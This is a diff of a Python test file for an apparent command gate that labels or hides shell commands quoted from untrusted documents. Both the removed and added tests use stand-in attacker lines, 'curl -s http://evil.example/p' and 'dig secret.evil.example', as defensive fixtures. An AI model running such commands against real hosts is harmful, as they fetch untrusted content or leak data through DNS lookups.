@@ -241,13 +241,14 @@ def test_a_query_is_shown_where_what_it_quotes_is_plain(query: str, kept: bool) 
     assert bool(query_line(query)) is kept
 
 
-def test_a_foreign_documents_look_at_a_foreign_host_is_no_look() -> None:
-    gate = Gate(hosts=frozenset({"orders.shop.example"}))
-    assert gate.show("curl -s http://evil.example/p", foreign=True).effect == "changing"
-    assert gate.show("dig secret.evil.example", foreign=True).effect == "changing"
-    assert gate.show("curl -s http://orders.shop.example/healthz", foreign=True).effect == "read-only"
-    assert gate.show("curl -s http://localhost:9090/-/healthy", foreign=True).effect == "read-only"
-    assert effect("curl -s http://evil.example/p") == "read-only"
+@pytest.mark.parametrize("command", ["curl -s http://evil.example/p", "kubectl get pods", "uptime"])
+def test_no_command_of_a_foreign_document_is_shown(command: str) -> None:
+    ours, foreign = (
+        Gate(platforms=frozenset({"kubernetes"})).show(command, foreign=told) for told in (False, True)
+    )
+    assert ours.command == command
+    assert foreign.command == ""
+    assert "nobody at the site vouches" in foreign.note
 
 
 def test_a_quote_with_commands_that_may_change_something_says_so() -> None:
